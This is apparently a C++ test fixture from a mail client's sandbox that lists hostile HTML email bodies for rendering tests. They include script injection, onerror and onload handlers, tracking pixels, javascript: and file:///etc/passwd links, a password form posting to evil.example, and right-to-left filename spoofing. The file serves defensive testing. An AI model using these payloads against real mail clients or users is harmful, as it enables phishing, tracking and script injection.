// SPDX-License-Identifier: MIT
#include "sandbox/hostilemail.h"

using namespace Qt::StringLiterals;

namespace deskbell::sandbox {
namespace {

QString nested(const QString& tag, int depth)
{
    return u"<%1>"_s.arg(tag).repeated(depth) + u"deep"_s + u"</%1>"_s.arg(tag).repeated(depth);
}

} // namespace

const QList<HostileMail>& hostileMails()
{
    static const QList<HostileMail> mails{
        {u"<p>Hello</p><script>document.title='owned'</script><img src=x onerror=\"alert(1)\">"_s,
         u"Hello <script>document.title='owned'</script>"_s},
        {u"<img src=\"https://tracker.example/pixel.gif?to=agent\" width=1 height=1><p>Did you see this?</p>"
         "<link rel=stylesheet href=\"https://tracker.example/s.css\"><style>@import "
         "url(https://tracker.example/i.css); body{background:url(https://tracker.example/b.png)}</style>"_s,
         u"Did you see this?"_s},
        {u"<a href=\"javascript:alert(1)\">https://bank.example</a> <a href=\"https://evil.example\">"
         "https://bank.example</a> <a href=\"file:///etc/passwd\">open</a> <a href=\"data:text/html,x\">d</a>"_s,
         u"https://bank.example"_s},
        {u"<iframe src=\"https://evil.example\"></iframe><form action=\"https://evil.example\"><input "
         u"name=pw "
         "type=password></form><meta http-equiv=refresh content=\"0;url=https://evil.example\"><svg "
         "onload=alert(1)></svg><object data=\"file:///etc/passwd\"></object>"_s,
         u"Please sign in again"_s},
        {u"<p>"_s + u"Rindfleischetikettierung"_s.repeated(420) + u"</p>"_s,
         u"long "_s + u"x"_s.repeated(10000)},
        {nested(u"blockquote"_s, 300), u"> "_s.repeated(300) + u"deep"_s},
        {u"<p>\u202Egnp.exe\u202C \u200B\u200B\u2066\u05D0\u2069 Z\u0351\u036B\u0343\u036A\u0302a\u0300l</p>"_s,
         u"\u202Egnp.exe\u202C"_s},
        {u"<p>unclosed <b>bold <i>both <table><tr><td>cell &lt;tag&gt; &amp;amp; &#0; &#x110000; <p"_s,
         u"a < b && c > d \\u0000"_s},
        {QString(), QString()}};
    return mails;
}

} // namespace deskbell::sandbox
